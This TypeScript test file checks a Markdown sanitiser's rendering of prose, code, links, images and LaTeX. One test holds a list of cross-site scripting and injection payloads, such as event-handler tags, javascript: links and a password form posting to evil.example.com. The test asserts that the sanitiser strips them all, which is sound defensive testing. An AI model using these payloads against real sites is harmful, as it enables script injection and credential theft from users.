import { JSDOM } from 'jsdom';
import { describe, expect, it } from 'vitest';
import { blocksOf, createSanitiser } from '../../src/pages/common/markdown.ts';

const { window } = new JSDOM('');
const sanitiser = createSanitiser(window);

/** What the page shows of a Markdown text. */
const html = (text: string): string =>
  blocksOf(text)
    .map((block) => (block.kind === 'code' ? sanitiser.code(block.code, block.language) : sanitiser.prose(block.token)))
    .join('');

function dom(text: string): HTMLElement {
  const body = window.document.createElement('body');
  body.innerHTML = html(text);
  return body;
}

describe('Markdown', () => {
  it('shows headings, lists, tables, quotations and code', () => {
    const body = dom('# A\n\n- b\n- [x] c\n\n| d | e |\n| - | -: |\n| 1 | 2 |\n\n> f `g`\n\n**h** ~~i~~');
    for (const tag of ['h1', 'li', 'table', 'blockquote', 'code', 'strong', 'del', 'input[disabled]']) {
      expect(body.querySelector(tag), tag).not.toBeNull();
    }
    expect(body.querySelector('td:last-child')!.getAttribute('align')).toBe('right');
  });

  it('cuts a text into blocks of which only the last changes as it streams', () => {
    const before = blocksOf('One.\n\nTwo.\n\n```ts\nconst a');
    const after = blocksOf('One.\n\nTwo.\n\n```ts\nconst a = 1;\n```\n');
    expect(after.slice(0, 2).map(({ raw }) => raw.trim())).toEqual(before.slice(0, 2).map(({ raw }) => raw.trim()));
    expect(after[2]).toMatchObject({ kind: 'code', language: 'ts', code: 'const a = 1;' });
  });

  it('colours code of a known language and leaves other code as it is', () => {
    expect(html('```ts\nconst a = 1;\n```')).toContain('<span class="hljs-keyword">const</span>');
    expect(html('```klingon\n<b>nuqneH</b>\n```')).toBe('&lt;b&gt;nuqneH&lt;/b&gt;');
  });

  it('does not colour code that is so long that it would hold up the page', () => {
    expect(html(`\`\`\`ts\n${'const a = 1;\n'.repeat(5_000)}\`\`\``)).not.toContain('hljs');
  });

  it.each([
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)><script>alert(1)</script></svg>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt&colon;alert(1))',
    '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    '[x](vbscript:alert(1))',
    '![x](javascript:alert(1))',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<form action="https://evil.example.com"><input name=password type=password><button>Sign in</button></form>',
    '<style>@import "https://evil.example.com/a.css";</style>',
    '<link rel=stylesheet href="https://evil.example.com">',
    '<meta http-equiv=refresh content="0;url=https://evil.example.com">',
    '<base href="https://evil.example.com">',
    '<object data="https://evil.example.com"></object><embed src="https://evil.example.com">',
    '<div style="position:fixed;inset:0;background:url(https://evil.example.com)">x</div>',
    '```html onload=alert(1)\n<script>alert(1)</script>\n```',
    '```"><img src=x onerror=alert(1)>\nx\n```',
    '- ```\n  </code></pre><script>alert(1)</script>\n  ```',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<details open ontoggle=alert(1)>x</details>',
  ])('makes nothing that runs, loads or asks of %s', (attack) => {
    const body = dom(attack);
    const all = [...body.querySelectorAll('*')];
    const allowed = /^(P|A|CODE|PRE|SPAN|LI|UL|DETAILS|IMG|TABLE|TBODY|TR|TD|TH|THEAD)$/;
    expect(all.map(({ nodeName }) => nodeName).filter((name) => !allowed.test(name))).toEqual([]);
    for (const element of all) {
      for (const { name, value } of element.attributes) {
        expect(name).not.toMatch(/^(on|style|srcdoc|action|id|name)/);
        expect(value).not.toMatch(/^\s*(javascript|vbscript|data:text)/i);
      }
    }
    expect(body.querySelectorAll('img')).toHaveLength(0);
  });

  it('never loads an image from elsewhere: it is a link', () => {
    const body = dom('![a chart](https://images.example.com/track.png) <img src="https://images.example.com/b.png">');
    expect(body.querySelector('img')).toBeNull();
    expect(body.querySelector('a')!.textContent).toBe('Image: a chart');
  });

  it('shows an image that is in the text itself, but not a drawing, which may be a document', () => {
    expect(dom('![dot](data:image/png;base64,iVBORw0KGgo=)').querySelector('img')!.alt).toBe('dot');
    expect(dom('![dot](data:image/svg+xml;base64,PHN2Zy8+)').querySelector('img')).toBeNull();
  });

  it('opens links elsewhere, without telling where they come from', () => {
    const link = dom('[guide](https://docs.example.com/a?b=1)').querySelector('a')!;
    expect(link.getAttribute('href')).toBe('https://docs.example.com/a?b=1');
    expect(link.getAttribute('target')).toBe('_blank');
    expect(link.getAttribute('rel')).toBe('noopener noreferrer nofollow');
    expect(link.getAttribute('class')).toBe('link');
  });

  it('says where a link leads whose words name another place', () => {
    expect(dom('[bank.example.com](https://evil.example.org/)').textContent).toContain(
      'bank.example.com (evil.example.org)',
    );
    expect(dom('<https://docs.example.com>').textContent.trim()).toBe('https://docs.example.com');
  });

  it('gives a link nowhere to lead that is not a complete address of the web or of mail', () => {
    expect(dom('[x](ftp://files.example.com/a)').querySelector('a')!.hasAttribute('href')).toBe(false);
    expect(dom('[x](/logout)').querySelector('a')!.hasAttribute('href')).toBe(false);
    expect(dom('[x](//evil.example.com)').querySelector('a')!.hasAttribute('href')).toBe(false);
  });

  it.each([
    'git clone <url>',
    'List<String> and Map<K, V>',
    'x <y and y> z',
    '<div class="ask primary">x</div>',
    '<b>x</b> <img src=x>',
    'if a < b && c > d',
    '- press <Enter>\n- then <kbd>',
    '| a |\n| - |\n| <T> |',
    '<!-- a note -->',
    '<details>\n<summary>x</summary>\n</details>',
    '</think> so <?php',
  ])('shows what looks like a tag: %s', (text) => {
    const body = dom(text);
    for (const word of text.match(/<[^>\n]*>?/g)!) expect(body.textContent).toContain(word);
    expect(body.querySelector('b, div, img, details, kbd')).toBeNull();
  });

  it('has line breaks, indices and keys in it', () => {
    const body = dom('H<sub>2</sub>O<br>x<sup>2</sup> <kbd>Esc</kbd>');
    expect(['sub', 'br', 'sup', 'kbd'].filter((tag) => body.querySelector(tag) === null)).toEqual([]);
    expect(body.textContent.trim()).toBe('H2Ox2 Esc');
  });

  it.each(['\\(a\\_1 * b * c\\)', '\\[ x^2 \\]', '$$a_1 \\\\ b_2$$', '$\\{1, 2\\}$', 'so \\(\\alpha\\) and $\\beta$'])(
    'keeps the LaTeX of %s as it was written',
    (text) => {
      // A formula that is a block of its own has no need of its brackets.
      const bare = text.replace(/^(\\\[|\$\$) ?(.*?) ?(\\\]|\$\$)$/, '$2');
      expect(dom(text).textContent.trim()).toBe(bare);
    },
  );

  it('takes a formula of several lines as code, also where it follows a text', () => {
    expect(blocksOf('So:\n\\[\na_1 \\\\\n\n= b\n\\]\nDone.')).toMatchObject([
      { kind: 'prose' },
      { kind: 'code', language: 'latex', code: 'a_1 \\\\\n\n= b' },
      { kind: 'prose' },
    ]);
  });

  it('leaves amounts of money as they are', () => {
    expect(dom('It is $5 or $6 and *cheap*').querySelector('code')).toBeNull();
  });

  it('does not let code at its beginning say in which direction a text is read', () => {
    expect(dom('`x` שלום').querySelector('code')!.dir).toBe('ltr');
  });
});
